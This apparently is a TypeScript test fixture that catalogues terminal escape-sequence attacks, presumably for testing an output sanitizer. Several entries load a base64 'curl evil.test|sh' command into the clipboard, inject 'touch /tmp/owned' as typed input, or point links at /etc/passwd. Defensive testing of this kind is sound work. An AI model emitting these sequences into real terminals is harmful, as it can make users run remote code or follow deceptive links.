/** One thing that output can do to a terminal beyond drawing in it. */
export interface TerminalAttack {
  name: string
  /** As text; 8-bit controls as characters. */
  text: string
  /** Part of what a gullible terminal is left with: an effect, or a change. */
  effect: string
}

const esc = "\x1b"
const st = `${esc}\\`
/** base64 of `curl evil.test|sh` and a newline. */
const loot = "Y3VybCBldmlsLnRlc3R8c2gK"
/** What comes back as typed if a terminal lets itself be asked for it. */
const typed = "touch /tmp/owned"

export const terminalAttacks: readonly TerminalAttack[] = [
  { name: "clipboard by OSC 52", text: `${esc}]52;c;${loot}\x07`, effect: "command 52" },
  { name: "clipboard, primary selection, ST", text: `${esc}]52;p;${loot}${st}`, effect: "command 52" },
  { name: "clipboard with an 8-bit introducer", text: `\u009d52;c;${loot}\u009c`, effect: "command 52" },
  { name: "clipboard, all selections of old", text: `${esc}]52;pqs01234567;${loot}\x07`, effect: "command 52" },
  { name: "clipboard asked for", text: `${esc}]52;c;?\x07`, effect: "answer" },
  { name: "clipboard of kitty", text: `${esc}]5522;type=write\x07`, effect: "command 5522" },
  { name: "clipboard of iTerm", text: `${esc}]1337;Copy=:${loot}\x07`, effect: "command 1337" },
  { name: "clipboard through tmux", text: `${esc}Ptmux;${esc}${esc}]52;c;${loot}\x07${st}`, effect: "string P" },
  { name: "clipboard through screen", text: `${esc}P${esc}]52;c;${loot}\x07${st}`, effect: "string P" },
  { name: "link to a file", text: `${esc}]8;;file:///etc/passwd${st}x${esc}]8;;${st}`, effect: "command 8" },
  {
    name: "link with a hidden target",
    text: `${esc}]8;id=1;https://evil.test\x07good.test${esc}]8;;\x07`,
    effect: "command 8",
  },
  { name: "title", text: `${esc}]0;${typed}\x07`, effect: "command 0" },
  { name: "icon name", text: `${esc}]1;${typed}${st}`, effect: "command 1" },
  { name: "window title", text: `${esc}]2;${typed}${st}`, effect: "command 2" },
  { name: "title of screen and tmux", text: `${esc}k${typed}${st}`, effect: "title k" },
  { name: "title asked back as typing", text: `${esc}]2;${typed}\x07${esc}[21t`, effect: "answer" },
  { name: "title stack", text: `${esc}[22;0t${esc}[23;0t`, effect: "window operation" },
  { name: "working directory", text: `${esc}]7;file://evil.test/${st}`, effect: "command 7" },
  { name: "notification of iTerm", text: `${esc}]9;approve now\x07`, effect: "command 9" },
  { name: "notification of urxvt", text: `${esc}]777;notify;bottle;approve now\x07`, effect: "command 777" },
  { name: "notification of kitty", text: `${esc}]99;i=1:d=0;approve now${st}`, effect: "command 99" },
  { name: "progress in the task bar", text: `${esc}]9;4;1;50${st}`, effect: "command 9" },
  { name: "bell", text: "\x07", effect: "bell" },
  { name: "prompt mark of a shell", text: `${esc}]133;A\x07${esc}]133;C\x07`, effect: "command 133" },
  { name: "prompt mark of an editor", text: `${esc}]633;E;${typed}\x07`, effect: "command 633" },
  { name: "file download of iTerm", text: `${esc}]1337;File=name=eA==;inline=0:${loot}\x07`, effect: "command 1337" },
  { name: "picture by sixel", text: `${esc}Pq#0;2;0;0;0~~${st}`, effect: "string P" },
  { name: "picture by kitty from a file", text: `${esc}_Ga=T,t=f;L2V0Yy9wYXNzd2Q=${st}`, effect: "string _" },
  { name: "privacy message", text: `${esc}^${typed}${st}`, effect: "string ^" },
  { name: "start of string", text: `${esc}X${typed}${st}`, effect: "string X" },
  {
    name: "user-defined keys",
    text: `${esc}P1;1|17/${Buffer.from(`${typed}\r`).toString("hex")}${st}`,
    effect: "string P",
  },
  { name: "settings asked for", text: `${esc}P$qm${st}`, effect: "answer" },
  { name: "terminfo asked for", text: `${esc}P+q544e${st}`, effect: "answer" },
  { name: "tmux passthrough of a question", text: `${esc}Ptmux;${esc}${esc}[c${st}`, effect: "string P" },
  {
    name: "tmux passthrough, nested",
    text: `${esc}Ptmux;${esc}${esc}Ptmux;${esc}${esc}${esc}${esc}]2;x\x07${esc}${esc}\\${st}`,
    effect: "string P",
  },
  { name: "answer-back", text: "\x05", effect: "answer" },
  { name: "device attributes", text: `${esc}[c${esc}[>c${esc}[=c`, effect: "answer" },
  { name: "device attributes of old", text: `${esc}Z`, effect: "answer" },
  { name: "device attributes, 8-bit", text: "\u009bc", effect: "answer" },
  { name: "cursor asked for", text: `${esc}[6n${esc}[?6n`, effect: "answer" },
  { name: "status asked for", text: `${esc}[5n`, effect: "answer" },
  { name: "modes asked for", text: `${esc}[?2026$p${esc}[4$p`, effect: "answer" },
  { name: "keyboard asked for", text: `${esc}[?u`, effect: "answer" },
  { name: "version asked for", text: `${esc}[>q`, effect: "answer" },
  { name: "parameters asked for", text: `${esc}[x`, effect: "answer" },
  { name: "checksum of the screen", text: `${esc}[1;1;1;1;9;9*y`, effect: "answer" },
  { name: "presentation state", text: `${esc}[1$w`, effect: "answer" },
  { name: "colours asked for", text: `${esc}]4;1;?\x07${esc}]10;?\x07${esc}]11;?${st}`, effect: "answer" },
  { name: "graphics asked for", text: `${esc}[?1;1S`, effect: "answer" },
  { name: "size asked for", text: `${esc}[18t${esc}[14t`, effect: "answer" },
  { name: "window resized", text: `${esc}[8;5;5t${esc}[4;50;50t`, effect: "window operation" },
  { name: "window moved, lowered, made an icon", text: `${esc}[3;0;0t${esc}[6t${esc}[2t`, effect: "window operation" },
  { name: "columns changed", text: `${esc}[?40h${esc}[?3h`, effect: "mode ?3" },
  { name: "printer", text: `${esc}[5i${typed}${esc}[4i`, effect: "printer" },
  { name: "scrollback erased", text: `${esc}[3J`, effect: "scrollback" },
  { name: "hard reset", text: `${esc}c`, effect: "hard reset" },
  { name: "keyboard locked", text: `${esc}[2h`, effect: "mode 2" },
  { name: "reversed screen", text: `${esc}[?5h`, effect: "mode ?5" },
  { name: "VT52", text: `${esc}[?2l`, effect: "mode ?2" },
  { name: "highlight tracking", text: `${esc}[?1001h`, effect: "mode ?1001" },
  { name: "reports that come unasked", text: `${esc}[?2031h${esc}[?2048h`, effect: "mode ?2031" },
  { name: "urgency", text: `${esc}[?1042h`, effect: "mode ?1042" },
  { name: "operator's keyboard entries popped", text: `${esc}[<9u`, effect: "keyboard stack of the operator" },
  { name: "operator's keyboard changed", text: `${esc}[=1u`, effect: "keyboard of the operator" },
  { name: "controls in a sequence", text: `${esc}[2\x051;1H`, effect: "answer" },
  { name: "a paste that ends early", text: `${esc}[?2004h${esc}[201~${typed}\r`, effect: "mode ?2004" },
  { name: "bracketed paste left on", text: `${esc}[?2004h`, effect: "mode ?2004" },
  { name: "alternate screen left on", text: `${esc}[?1049h`, effect: "alternate screen" },
  { name: "alternate screen of old left on", text: `${esc}[?47h`, effect: "alternate screen" },
  { name: "mouse left on", text: `${esc}[?1003h${esc}[?1006h`, effect: "mode ?1003" },
  { name: "focus reports left on", text: `${esc}[?1004h`, effect: "mode ?1004" },
  { name: "cursor left hidden", text: `${esc}[?25l`, effect: "mode ?25" },
  { name: "wrapping left off", text: `${esc}[?7l`, effect: "mode ?7" },
  { name: "origin left changed", text: `${esc}[5;6r${esc}[?6h`, effect: "scroll region" },
  { name: "synchronized output left on", text: `${esc}[?2026h`, effect: "mode ?2026" },
  { name: "insert mode left on", text: `${esc}[4h`, effect: "mode 4" },
  { name: "application keys left on", text: `${esc}[?1h${esc}=`, effect: "keypad" },
  { name: "line drawing left on", text: `${esc}(0${esc})0\x0e`, effect: "second character set" },
  { name: "keyboard entries left", text: `${esc}[>31u`, effect: "keyboard stack" },
  { name: "modified keys left on", text: `${esc}[>4;2m`, effect: "modified keys" },
  { name: "invisible ink left", text: `${esc}[8;30;40m`, effect: "style" },
  { name: "colours left changed", text: `${esc}]4;0;#fff\x07${esc}]10;#000;#000;#000\x07`, effect: "colour 10" },
  { name: "cursor shape left", text: `${esc}[5 q`, effect: "cursor shape" },
]

/** What is left when output stops in the middle: the operator's own next words would go on with it. */
export const cutOff: readonly TerminalAttack[] = [
  { name: "a clipboard command", text: `${esc}]52;c;${loot}`, effect: "waiting" },
  { name: "a title", text: `${esc}]2;`, effect: "waiting" },
  { name: "a passthrough", text: `${esc}Ptmux;${esc}${esc}]52;c;`, effect: "waiting" },
  { name: "a sequence", text: `${esc}[?1049;`, effect: "waiting" },
  { name: "an escape", text: esc, effect: "waiting" },
  { name: "a privacy message", text: `${esc}^`, effect: "waiting" },
]

/** All of them after each other, each behind its name, so that a culprit can be found. */
export function allAttacks(): string {
  return terminalAttacks.map(({ name, text }) => `\r\n@${name}@ ${text}`).join("")
}

/** The name of the attack before this place of a terminal's text. */
export function attackBefore(text: string, at: number): string {
  return [...text.slice(0, at).matchAll(/@([^@\r\n]+)@/g)].at(-1)?.[1] ?? "?"
}
